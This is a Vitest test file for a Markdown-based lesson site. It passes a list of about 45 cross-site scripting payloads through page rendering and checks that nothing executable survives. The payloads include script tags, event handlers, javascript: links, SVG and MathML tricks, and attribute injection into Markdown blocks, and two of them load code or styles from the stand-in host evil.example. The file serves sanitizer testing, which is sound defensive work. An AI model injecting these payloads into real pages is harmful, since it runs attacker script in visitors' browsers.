import { expect, test } from 'vitest'
import { readPage } from './fixtures.ts'
import { executableIn } from './hostile.ts'

const url = 'javascript:alert(1)'
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / onload=alert(2)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  `<a href="${url}">x</a> <a href=" java\nscript:alert(1)">x</a> <a href="&#106;avascript:alert(1)">x</a>`,
  `[x](${url}) [x](JAVASCRIPT:alert) [x](java&#x0A;script:alert(1)) [x](<java\tscript:alert(1)>)`,
  '[x]( data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml;base64,PHN2Zz4=)',
  `![x](${url}){onerror="alert(1)" alt='" onerror="alert(1)'}`,
  '[x](https://a.example){onclick="alert(1)" style="position:fixed" title=\'" onfocus="alert(1)\'}',
  '## T {#x onclick="alert(1)" style="x"}',
  '::: {.challenge onclick="alert(1)" #"><script>alert(1)</script>}\nx\n:::',
  '::: {.callout title="<script>alert(1)</script>"}\nx\n:::',
  '::: <script>alert(1)</script>\nx\n:::',
  '```"><script>alert(1)</script>\nx\n```',
  '```{.x onclick="alert(1)"}\n</code></pre><script>alert(1)</script>\n```',
  '```html\n</code></pre><script>alert(1)</script><img onerror=alert(1)>\n```',
  '$\\href{javascript:alert(1)}{x} \\url{javascript:x} \\includegraphics{x} \\htmlData{onclick=alert}{x}$',
  '$</annotation><script>alert(1)</script>$ $$\\text{<img src=x onerror=alert(1)>}$$',
  '<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example>',
  '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</div>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)><source src="javascript:alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>--> <!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE html>',
  '<a id="x" name="getElementById">x</a><img name="cookie" src="x">',
  '+---+\n| <img src=x onerror=alert(1)> |\n+---+',
  '| <script>alert(1)</script> |\n|---|\n| <a href="javascript:alert(1)">x</a> |',
  'term\n: <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '> <script>alert(1)</script>\n{: .challenge onclick="alert(1)"}',
  '<http://a.example/"onmouseover="alert(1)>',
  'x</section></div></main></body></html><script>alert(1)</script>',
]

test.each(hostile)('nothing executable survives of %j', async (body) => {
  const { lesson, course } = await readPage(`${body}\n\nend\n`, {
    'index.md': `---\ntitle: T\n---\n${body}`,
  })
  const fields = await readPage(`::: questions\n- ${body.split('\n').join('\n  ')}\n:::\n\nend\n`)
  for (const html of [
    lesson.html,
    lesson.openingHtml,
    course.descriptionHtml,
    fields.html,
    ...fields.lesson.questions,
  ]) {
    expect(executableIn(html)).toEqual([])
  }
})

test('the check itself finds what is executable', () => {
  expect(executableIn('<script>x</script>')).not.toEqual([])
  expect(executableIn('<p onclick="x">')).not.toEqual([])
  expect(executableIn('<a href="JavaScript:x">')).not.toEqual([])
  expect(executableIn('<p style="x">')).not.toEqual([])
  expect(executableIn('<p title="onclick=x">&#x3C;script></p>')).toEqual([])
})
